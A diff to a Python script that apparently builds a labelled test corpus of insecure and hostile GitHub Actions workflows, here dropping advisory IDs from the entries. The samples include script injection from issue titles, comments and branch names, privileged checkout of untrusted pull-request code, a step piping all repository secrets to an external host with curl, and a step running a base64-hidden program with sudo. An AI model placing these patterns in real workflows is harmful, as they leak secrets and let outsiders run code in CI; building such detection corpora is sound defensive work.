@@ -93,11 +93,11 @@ def build_powers(corpus):
 
 
 def build_workflows(corpus):
-    def add(slug, text, technique, advisory=None, name="ci.yml"):
-        corpus.add("workflows", "" + slug if advisory else "workflow-" + slug, name, text.encode(), technique, advisory, textual=True)
+    def add(slug, text, technique, name="ci.yml"):
+        corpus.add("workflows", "workflow-" + slug, name, text.encode(), technique, textual=True)
 
     add("title", workflow("issues", "    - run: echo \"${{ github.event.issue.title }}\"\n"), "text of strangers in a script")
-    add("branch", workflow("pull_request_target", "    - run: git checkout ${{ github.head_ref }}\n"), "branch name in a script", "CVE-2023-49291")
+    add("branch", workflow("pull_request_target", "    - run: git checkout ${{ github.head_ref }}\n"), "branch name in a script")
     add("comment", workflow("issue_comment", "    - uses: actions/github-script@v7\n      with:\n        script: console.log(`${{ github.event.comment.body }}`)\n"), "text of strangers in a script of an action")
     add("format", workflow("discussion", "    - run: echo ${{ format('{0}', github.event.discussion.body) }}\n"), "text of strangers through a function")
     add("whole-event", workflow("issues", "    - run: echo '${{ toJSON(github.event) }}'\n"), "the whole event in a script")
@@ -106,7 +106,7 @@ def build_workflows(corpus):
     add("pwn-run", workflow("workflow_run", "    - uses: actions/checkout@v4\n      with:\n        ref: ${{ github.event.workflow_run.head_sha }}\n        repository: ${{ github.event.workflow_run.head_repository.full_name }}\n    - run: make\n"), "foreign code with rights")
     add("pwn-comment", workflow("issue_comment", "    - run: gh pr checkout ${{ github.event.issue.number }} && make\n"), "foreign code with rights")
     add("composite", "name: a\nruns:\n  using: composite\n  steps:\n  - shell: bash\n    run: echo ${{ github.event.pull_request.title }}\n", "text of strangers in an action", name="action.yml")
-    add("secrets", workflow("push", "    - env:\n        ALL: ${{ toJSON(secrets) }}\n      run: printenv ALL | curl -d @- https://%s/\n" % HOST), "sends all secrets", "CVE-2025-30066")
+    add("secrets", workflow("push", "    - env:\n        ALL: ${{ toJSON(secrets) }}\n      run: printenv ALL | curl -d @- https://%s/\n" % HOST), "sends all secrets")
     add("memory", workflow("push", "    - run: echo %s | base64 -d | sudo python3\n" % B64), "hidden program in a step")
 
 
